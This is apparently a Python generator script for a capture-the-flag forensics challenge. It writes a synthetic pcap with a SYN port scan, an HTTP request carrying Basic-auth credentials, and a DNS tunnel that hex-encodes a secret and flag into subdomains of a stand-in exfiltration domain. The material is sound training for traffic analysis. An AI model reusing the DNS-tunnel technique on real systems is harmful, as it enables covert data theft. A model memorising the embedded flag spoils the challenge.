#!/usr/bin/env python3
"""Regenerate files/capture.pcap of content/challenges/wire-whispers (deterministic).

Writes a classic libpcap file (Ethernet, IPv4, TCP/UDP with valid checksums) containing:
a TCP SYN scan, an HTTP request with Basic authentication, ordinary DNS lookups and a DNS tunnel.
Addresses come from the documentation ranges of RFC 5737; names use example.* domains.
"""
import base64
import random
import struct
from datetime import datetime, timezone
from pathlib import Path

from shared.packets import internet_checksum as checksum, ip_bytes
from shared.output import challenge_files, write_bytes

OUT = challenge_files("wire-whispers")

SCANNER = "192.0.2.66"
SERVER = "198.51.100.10"
CLIENT = "192.0.2.15"
RESOLVER = "192.0.2.53"
OPEN_PORTS = {22, 80, 8080}
SCAN_PORTS = [21, 22, 23, 25, 53, 80, 110, 139, 143, 443, 445, 3306, 3389, 5432, 8080, 8443]
CREDS = "opsadmin:Gull-Wing-42"
EXFIL_DOMAIN = "exfil.example.net"
SECRET = b"host=wks-031;user=lena;note=BASTION{dns_is_a_side_door}"

MACS = {
    SCANNER: bytes.fromhex("02005e0000a1"),
    SERVER: bytes.fromhex("02005e0000b2"),
    CLIENT: bytes.fromhex("02005e0000c3"),
    RESOLVER: bytes.fromhex("02005e0000d4"),
}
GATEWAY_MAC = bytes.fromhex("02005e0000fe")

FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}




class Capture:
    def __init__(self, start: float):
        self.t = start
        self.packets: list[tuple[float, bytes]] = []
        self.ip_id = 0x1200

    def advance(self, seconds: float) -> None:
        self.t += seconds

    def ipv4(self, src: str, dst: str, proto: int, payload: bytes, ttl: int = 64) -> None:
        self.ip_id = (self.ip_id + 1) & 0xFFFF
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), self.ip_id, 0x4000, ttl, proto, 0,
                             ip_bytes(src), ip_bytes(dst))
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        eth = MACS.get(dst, GATEWAY_MAC) + MACS.get(src, GATEWAY_MAC) + b"\x08\x00"
        self.packets.append((self.t, eth + header + payload))

    def tcp(self, src, sport, dst, dport, flags, seq, ack=0, data=b"", ttl=64, window=64240) -> None:
        f = sum(FLAGS[c] for c in flags)
        header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, f, window, 0, 0)
        pseudo = ip_bytes(src) + ip_bytes(dst) + struct.pack("!BBH", 0, 6, len(header) + len(data))
        csum = checksum(pseudo + header + data)
        header = header[:16] + struct.pack("!H", csum) + header[18:]
        self.ipv4(src, dst, 6, header + data, ttl)

    def udp(self, src, sport, dst, dport, data: bytes) -> None:
        header = struct.pack("!HHHH", sport, dport, 8 + len(data), 0)
        pseudo = ip_bytes(src) + ip_bytes(dst) + struct.pack("!BBH", 0, 17, 8 + len(data))
        csum = checksum(pseudo + header + data) or 0xFFFF
        self.ipv4(src, dst, 17, header[:6] + struct.pack("!H", csum) + data)

    def write(self, path: Path) -> None:
        out = bytearray(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
        for ts, frame in self.packets:
            sec = int(ts)
            usec = int(round((ts - sec) * 1_000_000))
            out += struct.pack("<IIII", sec, usec, len(frame), len(frame)) + frame
        write_bytes(path, bytes(out))


def dns_name(name: str) -> bytes:
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"


def dns_query(txid: int, name: str) -> bytes:
    return struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", 1, 1)


def dns_answer(txid: int, name: str, address: str | None) -> bytes:
    question = dns_name(name) + struct.pack("!HH", 1, 1)
    if address is None:  # NXDOMAIN
        return struct.pack("!HHHHHH", txid, 0x8183, 1, 0, 0, 0) + question
    answer = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + ip_bytes(address)
    return struct.pack("!HHHHHH", txid, 0x8180, 1, 1, 0, 0) + question + answer


def main() -> None:
    rng = random.Random(5737)
    start = datetime(2026, 3, 10, 9, 14, 2, tzinfo=timezone.utc).timestamp()
    cap = Capture(start)

    def lookup(name: str, address: str | None) -> None:
        txid = rng.randint(0, 0xFFFF)
        sport = rng.randint(40000, 60000)
        cap.udp(CLIENT, sport, RESOLVER, 53, dns_query(txid, name))
        cap.advance(rng.uniform(0.004, 0.03))
        cap.udp(RESOLVER, 53, CLIENT, sport, dns_answer(txid, name, address))
        cap.advance(rng.uniform(0.05, 0.4))

    # ordinary morning lookups
    lookup("www.example.com", "203.0.113.80")
    lookup("updates.example.org", "203.0.113.41")
    lookup("intranet.example.com", SERVER)

    # SYN scan from the scanner
    scan_sport = 51515
    ports = SCAN_PORTS[:]
    rng.shuffle(ports)
    for port in ports:
        seq = rng.getrandbits(32)
        cap.tcp(SCANNER, scan_sport, SERVER, port, "S", seq, window=1024, ttl=44)
        cap.advance(rng.uniform(0.0002, 0.001))
        if port in OPEN_PORTS:
            srv_seq = rng.getrandbits(32)
            cap.tcp(SERVER, port, SCANNER, scan_sport, "SA", srv_seq, seq + 1)
            cap.advance(rng.uniform(0.0002, 0.001))
            cap.tcp(SCANNER, scan_sport, SERVER, port, "R", seq + 1, window=0, ttl=44)
        else:
            cap.tcp(SERVER, port, SCANNER, scan_sport, "RA", 0, seq + 1, window=0)
        cap.advance(rng.uniform(0.001, 0.01))

    cap.advance(3.2)

    # HTTP with Basic authentication from the client to the intranet admin page
    sport = 49822
    c_seq, s_seq = rng.getrandbits(32), rng.getrandbits(32)
    cap.tcp(CLIENT, sport, SERVER, 8080, "S", c_seq)
    cap.advance(0.0011)
    cap.tcp(SERVER, 8080, CLIENT, sport, "SA", s_seq, c_seq + 1)
    cap.advance(0.0004)
    c_seq += 1
    s_seq += 1
    cap.tcp(CLIENT, sport, SERVER, 8080, "A", c_seq, s_seq)
    request = (
        "GET /admin/backups HTTP/1.1\r\n"
        "Host: intranet.example.com:8080\r\n"
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
        "Accept: text/html\r\n"
        f"Authorization: Basic {base64.b64encode(CREDS.encode()).decode()}\r\n"
        "Connection: close\r\n\r\n"
    ).encode()
    cap.advance(0.0002)
    cap.tcp(CLIENT, sport, SERVER, 8080, "PA", c_seq, s_seq, request)
    c_seq += len(request)
    body = b"<html><body><h1>Backups</h1><ul><li>db-2026-03-09.sql.gz</li><li>db-2026-03-10.sql.gz</li></ul></body></html>\n"
    response = (
        "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    cap.advance(0.0031)
    cap.tcp(SERVER, 8080, CLIENT, sport, "PA", s_seq, c_seq, response)
    s_seq += len(response)
    cap.advance(0.0003)
    cap.tcp(SERVER, 8080, CLIENT, sport, "FA", s_seq, c_seq)
    s_seq += 1
    cap.advance(0.0005)
    cap.tcp(CLIENT, sport, SERVER, 8080, "FA", c_seq, s_seq)
    c_seq += 1
    cap.advance(0.0004)
    cap.tcp(SERVER, 8080, CLIENT, sport, "A", s_seq, c_seq)

    cap.advance(12.5)

    # DNS tunnel: hex chunks in the first label, sequence number in the second; chunk 2 is retried
    hexdata = SECRET.hex()
    chunks = [hexdata[i:i + 30] for i in range(0, len(hexdata), 30)]
    lookup("www.example.com", "203.0.113.80")
    for n, chunk in enumerate(chunks):
        name = f"{chunk}.s{n}.{EXFIL_DOMAIN}"
        lookup(name, None)
        if n == 2:
            lookup(name, None)
        if n == 1:
            lookup("ocsp.example.org", "203.0.113.9")

    cap.write(OUT / "capture.pcap")
    print("wrote", OUT / "capture.pcap", len(cap.packets), "packets")


if __name__ == "__main__":
    main()
